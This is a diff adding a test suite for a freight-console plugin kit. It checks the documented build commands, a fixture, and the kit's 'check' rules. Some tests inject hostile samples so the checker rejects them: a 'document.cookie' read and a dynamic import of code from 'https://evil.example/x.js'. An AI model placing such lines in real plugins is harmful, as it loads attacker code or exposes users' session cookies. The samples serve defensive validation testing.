@@ -1,0 +1,100 @@
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { createPlugin } from '../../host/kit/create-plugin.ts';
+import { runKit } from '../../host/kit/main.ts';
+import type { PluginPackage, SharedModules } from '../../sdk/package/index.ts';
+import { sharedSpecifiers, verifyArchive } from '../../sdk/package/index.ts';
+import { root } from '../architecture/source-files.ts';
+
+// Inside the project, where the kit's packages are found; never in git.
+const cache = join(root, 'node_modules/.cache/freightdeck');
+let folder: string;
+let host: Server;
+let shared: SharedModules;
+const here = process.cwd();
+beforeAll(async () => {
+  mkdirSync(cache, { recursive: true });
+  folder = mkdtempSync(join(cache, 'kit-'));
+  host = createServer((_, answer) => { answer.end(JSON.stringify(shared)); });
+  await new Promise<void>((done) => { host.listen(0, '127.0.0.1', done); });
+});
+afterAll(() => {
+  process.chdir(here);
+  rmSync(folder, { recursive: true, force: true });
+  host.close();
+});
+const address = (): string => `http://127.0.0.1:${(host.address() as AddressInfo).port}/`;
+async function kit(...args: readonly string[]): Promise<{ readonly code: number; readonly said: string }> {
+  const said: string[] = [];
+  return { code: await runKit(args, (line) => { said.push(line); }), said: said.join('\n') };
+}
+const listOf = (plugin: string): PluginPackage => JSON.parse(readFileSync(join(plugin, 'dist/plugin.json'), 'utf8')) as PluginPackage;
+/** A console that has just what this plugin imports. */
+const fitting = ({ imports }: PluginPackage): SharedModules => ({ sdk: '1.0.0', modules: Object.fromEntries(Object.entries(imports).map(([name, exports]) => [name, { url: '/x.js', exports }])) });
+
+test('the guide\'s own commands make a signed plugin that a console takes', async () => {
+  const [, block = ''] = /```sh\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs/partner-plugins.md'), 'utf8')) ?? [];
+  const lines = block.trim().split('\n').map((line) => [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? ''));
+  expect(lines.map(([program, command]) => `${program} ${command}`)).toEqual(['create', 'key', 'build', 'check', 'pack'].map((command) => `freightdeck-plugin ${command}`));
+  process.chdir(folder);
+  let publicKey = '';
+  for (const [, ...args] of lines) {
+    if (args[0] === 'check') shared = fitting(listOf('acme-quotes'));
+    const { code, said } = await kit(...args.map((word) => (word.startsWith('http:') ? address() : word)));
+    expect(code, said).toBe(0);
+    if (args[0] === 'key') publicKey = said;
+  }
+  const taken = verifyArchive(new Uint8Array(readFileSync('acme-quotes.zip')), shared);
+  expect([taken.plugin.manifest.id, taken.plugin.manifest.title, taken.publicKey]).toEqual(['acme-quotes', { zh: '运价试算', en: 'Freight quotes' }, publicKey]);
+  expect(Object.keys(taken.imports).every((name) => Object.values(sharedSpecifiers).includes(name))).toBe(true);
+  expect(taken.plugin.files.map(({ path }) => path).every((path) => /-[\w-]{8}\.js$/.test(path)), 'names carry the hash of their content').toBe(true);
+});
+
+test('the fixture of the journeys is what the kit makes today', () => {
+  const made = join(folder, 'north-quotes');
+  createPlugin(made, {});
+  const kept = join(root, 'tests/fixtures/partner');
+  const filesOf = (of: string): string[] => readdirSync(of, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name).slice(of.length)).filter((path) => !path.startsWith('/dist/')).sort();
+  expect(filesOf(kept)).toEqual(filesOf(made));
+  for (const path of filesOf(made)) expect(readFileSync(kept + path, 'utf8'), path).toBe(readFileSync(made + path, 'utf8'));
+});
+
+describe('check names what a console would refuse', () => {
+  /** A plugin of its own with something changed in it, built, and what `check` says of it. */
+  async function checked(id: string, change: (plugin: string) => void, less?: string): Promise<string> {
+    const plugin = join(folder, id);
+    createPlugin(plugin, {});
+    change(plugin);
+    const built = await kit('build', plugin);
+    if (built.code !== 0) return built.said;
+    shared = fitting(listOf(plugin));
+    if (less !== undefined) shared = { ...shared, modules: Object.fromEntries(Object.entries(shared.modules).map(([name, one]) => [name, { ...one, exports: one.exports.filter((each) => `${name}#${each}` !== less) }])) };
+    const { code, said } = await kit('check', plugin, '--host', address());
+    expect(code).toBe(said.includes('it links') ? 0 : 1);
+    return said;
+  }
+  const edit = (file: string, from: string, to: string) => (plugin: string): void => {
+    const text = readFileSync(join(plugin, file), 'utf8');
+    expect(text).toContain(from);
+    writeFileSync(join(plugin, file), text.replace(from, to));
+  };
+  const store = 'web/stores/quote-book.ts';
+
+  test('nothing, of a plugin as it was made', async () => { expect(await checked('good-one', () => undefined)).toContain('it links'); });
+  test('a text in one language', async () => { expect(await checked('text-less', edit('locales/en.json', '"field.id": "No.",', ''))).toBe('messageMissing: en: field.id'); });
+  test('an export the console has not', async () => { expect(await checked('export-less', () => undefined, 'react@19#useState')).toBe('exportMissing: react@19#useState'); });
+  test('a library that brings what must exist once', async () => {
+    expect(await checked('with-axios', (plugin) => {
+      edit(store, 'import { makeAutoObservable }', "import axios from 'axios';\nimport { makeAutoObservable }")(plugin);
+      edit(store, 'this.quotes = [...', 'void axios.get("/"); this.quotes = [...')(plugin);
+    })).toBe('sharedBundled: axios');
+  });
+  test('forbidden code', async () => { expect(await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...'))).toMatch(/^forbiddenCode: cookie/); });
+  test('code from elsewhere', async () => { expect(await checked('from-afar', edit(store, 'this.quotes = [...', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...'))).toBe('foreignOrigin: https://evil.example/x.js'); });
+  test('more bytes than it may have', async () => { expect(await checked('too-fat', edit(store, 'this.quotes = [...', `document.title = ${JSON.stringify('x'.repeat(600_000))}; this.quotes = [...`))).toMatch(/^overBudget: 60\d{4} > 500000$/); });
+  test('a manifest with a name that is not its own', async () => { expect(await checked('not-mine', edit('plugin.ts', "path: '/partner/not-mine/book'", "path: '/home'"))).toMatch(/^manifestWrong/); });
+});
